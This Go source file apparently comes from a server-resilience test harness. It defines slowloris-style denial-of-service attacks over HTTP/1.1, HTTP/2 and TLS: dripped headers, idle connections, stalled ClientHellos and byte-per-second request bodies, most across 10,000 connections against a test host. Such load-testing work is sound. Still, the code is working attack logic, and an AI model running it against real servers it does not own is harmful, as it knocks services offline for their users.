package attack

import (
	"io"
	"time"

	"golang.org/x/net/http2"
)

// drip writes start, and then one byte of rest after each pause, again and again.
func drip(a Attack, start, rest string, pause time.Duration) Attack {
	a.one = func(v *victim) error {
		if _, err := io.WriteString(v, start); err != nil {
			return err
		}
		v.sink()
		for i := 0; v.pause(pause); i++ {
			if _, err := io.WriteString(v, rest[i%len(rest):i%len(rest)+1]); err != nil {
				return err
			}
			v.sent.Add(1)
		}
		return nil
	}
	return a
}

// Many is how many connections slowloris holds (S4).
const Many = 10000

// slow are those who hold much by sending little.
func slow() []Attack {
	get := "GET / HTTP/1.1\r\nHost: a.test\r\nX-A: "
	return []Attack{
		drip(Attack{Name: "slowloris", About: "heads that never end, one byte in 5 s", Span: 30 * time.Second, Connections: Many, Closes: true, Held: true}, get, "slow", 5*time.Second),
		drip(Attack{Name: "slowloris-first-byte", About: "one byte, then nothing", Span: 25 * time.Second, Connections: Many, Closes: true, Held: true}, "G", "E", time.Hour),
		{Name: "slowloris-idle", About: "connections that say nothing", Span: 20 * time.Second, Connections: Many, Held: true, one: (*victim).hold},
		{Name: "slowloris-kept", About: "connections that asked once and stay", Span: 20 * time.Second, Connections: Many, Held: true, one: func(v *victim) error {
			if _, err := io.WriteString(v, "GET / HTTP/1.1\r\nHost: a.test\r\n\r\n"); err != nil {
				return err
			}
			return v.hold()
		}},
		{Name: "slowloris-h2", About: "HTTP/2: a head that never ends, a byte of CONTINUATION in 5 s", Span: 30 * time.Second, Connections: Many, Closes: true, Held: true, H2: true, one: func(v *victim) error {
			a, err := speak2(v)
			if err != nil {
				return err
			}
			v.sink()
			if err := unended(a); err != nil {
				return err
			}
			for v.pause(5 * time.Second) {
				if err := a.WriteContinuation(1, false, nil); err != nil {
					return err
				}
				if err := a.flush(); err != nil {
					return err
				}
				v.sent.Add(1)
			}
			return nil
		}},
		{Name: "slowloris-h2-idle", About: "HTTP/2: settings exchanged, then nothing", Span: 20 * time.Second, Connections: Many, Held: true, H2: true, one: func(v *victim) error {
			if _, err := speak2(v); err != nil {
				return err
			}
			return v.hold()
		}},
		{Name: "slowloris-tls", About: "TLS: the beginning of a ClientHello", Span: 20 * time.Second, Connections: Many, Closes: true, Held: true, Target: "tls", one: func(v *victim) error {
			if _, err := io.WriteString(v, "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"); err != nil {
				return err
			}
			return v.hold()
		}},
		drip(Attack{Name: "header-trickle", About: "a head at ten bytes a second", Span: 25 * time.Second, Connections: 1000, Closes: true}, get, "trickle", 100*time.Millisecond),
		drip(Attack{Name: "slow-body", About: "a body at one byte a second", Span: 40 * time.Second, Connections: 2000, Closes: true}, "POST / HTTP/1.1\r\nHost: a.test\r\nContent-Length: 1000000\r\n\r\n", "body", time.Second),
		drip(Attack{Name: "slow-chunks", About: "a chunked body at one byte a second", Span: 40 * time.Second, Connections: 1000, Closes: true}, "POST / HTTP/1.1\r\nHost: a.test\r\nTransfer-Encoding: chunked\r\n\r\n", "1\r\nx\r\n", time.Second),
		{Name: "slow-body-h2", About: "HTTP/2: 20 bodies at a byte a second each", Span: 40 * time.Second, Connections: 50, Closes: true, H2: true, one: slowBodies},
	}
}

func slowBodies(v *victim) error {
	a, err := speak2(v)
	if err != nil {
		return err
	}
	// A stream that is reset, or an answer, ends the body: a closed stream is as
	// good as a closed connection.
	go func() {
		for range 100000 {
			f, err := a.ReadFrame()
			if err != nil {
				v.ends(err)
				return
			}
			switch f.(type) {
			case *http2.RSTStreamFrame, *http2.GoAwayFrame:
				v.ends(nil)
				return
			}
		}
	}()
	for n := range uint32(20) {
		if err := a.open(2*n+1, "POST", "/", false); err != nil {
			return err
		}
	}
	for v.pause(time.Second) {
		for n := range uint32(20) {
			if err := a.WriteData(2*n+1, false, []byte("b")); err != nil {
				return err
			}
			v.sent.Add(1)
		}
		if err := a.flush(); err != nil {
			return err
		}
	}
	return nil
}
